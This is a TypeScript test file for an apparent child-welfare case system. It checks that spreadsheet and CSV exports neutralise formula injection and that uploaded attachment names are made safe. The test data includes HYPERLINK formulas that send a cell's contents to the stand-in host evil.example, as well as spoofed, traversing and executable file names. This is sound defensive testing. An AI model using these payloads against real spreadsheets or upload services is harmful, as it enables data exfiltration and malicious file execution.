/** What leaves the app as a file: names that would be formulas in a spreadsheet, documents that would be run. */
import { read } from '@e965/xlsx';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { writeListCsv, writeListXlsx } from '#reports/list/writeList.ts';
import { writeReport } from '#reports/write.ts';
import { aReport } from '#tests/unit/reports/sampleReport.ts';
import { Desk, ok } from '../../support/desk.ts';

const starts = ['=', '+', '-', '@', '\t=', '\r=', '\n@', '\u0000=', ' =', '＝', '＋', '\u00a0+'];
const formulas = starts.map((start) => `${start}HYPERLINK("http://evil.example?"&A1;"Дом")`);
const table = {
  sheet: 'Список',
  columns: [{ title: '=1+1', width: 10 }],
  rows: formulas.map((formula) => [formula]),
};

/** Cells of a workbook that a spreadsheet would compute, or take for a formula when they are touched. */
function formulasIn(bytes: Uint8Array): unknown[] {
  const { Sheets } = read(bytes, { cellFormula: true });
  return Object.values(Sheets)
    .flatMap((sheet) => Object.entries(sheet).filter(([address]) => !address.startsWith('!')))
    .filter(([, cell]) => cell.f !== undefined || (cell.t === 's' && /^\s*[=+\-@＝＋]/.test(String(cell.v))));
}

/** Fields of a CSV that a spreadsheet would take for a formula. */
function formulasInCsv(bytes: Uint8Array): string[] {
  const text = new TextDecoder().decode(bytes);
  return [...text.matchAll(/(?:^|[;,\n])"?\s*([=+\-@＝＋][^;,]*)/g)].map((found) => found[0]);
}

describe('nothing that a colleague typed becomes a formula', () => {
  test.each(['ru', 'en'] as const)('in the lists of the sync page, in %s', async (language) => {
    const csv = writeListCsv(table, language);
    expect(formulasInCsv(csv)).toEqual([]);
    expect(new TextDecoder().decode(csv).split('\r\n')).toHaveLength(formulas.length + 2);
    expect(formulasIn(await writeListXlsx(table, '2026-11-10'))).toEqual([]);
  });

  test.each(formulas)('in a report of the institution %j', async (name) => {
    const report = aReport({ institution: { id: 'one', name } });
    expect(formulasIn((await writeReport(report, 'xlsx', 'ru')).bytes)).toEqual([]);
    expect(formulasInCsv((await writeReport(report, 'csv', 'ru')).bytes)).toEqual([]);
    expect(formulasInCsv((await writeReport(report, 'csv', 'en')).bytes)).toEqual([]);
  });

  test('the check itself finds one', () => {
    expect(formulasInCsv(new TextEncoder().encode('"a";"=1+1"\r\n'))).toHaveLength(1);
    expect(formulasInCsv(new TextEncoder().encode('a,+1\r\n'))).toHaveLength(1);
  });
});

describe('a document that somebody attached', () => {
  let desk: Desk;
  let caseCode: string;

  beforeAll(async () => {
    desk = await Desk.of('caseworker');
    const child = {
      familyName: 'Оспанова',
      givenName: 'Айзере',
      patronymic: null,
      sex: 'f',
      birthDate: '2019-09-08',
      birthYear: 2019,
      iin: null,
      iinStatus: 'missing',
      legalStatus: 'temporary_by_application',
      reasons: [],
      mainReason: null,
      reasonText: null,
      healthGroup: null,
      disability: null,
      familyAddress: null,
      familyPlace: null,
      note: null,
    } as const;
    const given = { institution: 'Дом надежды', child: { ...child, reasons: [] }, admittedOn: null };
    ({ caseCode } = ok(await desk.client.cases.open(given)));
  });
  afterAll(() => desk.close());

  test.each([
    ['справка.pdf', 'справка.pdf'],
    ['справка.pdf.exe', 'справка.pdf.exe.bin'],
    ['..\\..\\Startup\\run.desktop', 'run.desktop.bin'],
    ['фото\u202egpj.scr', 'фото_gpj.scr.bin'],
    ['картинка.svg', 'картинка.svg.bin'],
  ])('as %j is handed out as %j', async (given, handedOut) => {
    const sha256 = await attached(given);
    const { file } = ok(await desk.client.attachments.get({ case: caseCode, sha256 }));
    expect(file.name).toBe(handedOut);
  });

  async function attached(fileName: string): Promise<string> {
    const content = new TextEncoder().encode(`содержание ${fileName}`);
    const file = new File([content], fileName, { type: 'text/html' });
    ok(await desk.client.attachments.add({ case: caseCode, title: 'Справка', file }));
    const digest = await crypto.subtle.digest('SHA-256', content);
    return Buffer.from(digest).toString('hex');
  }
});
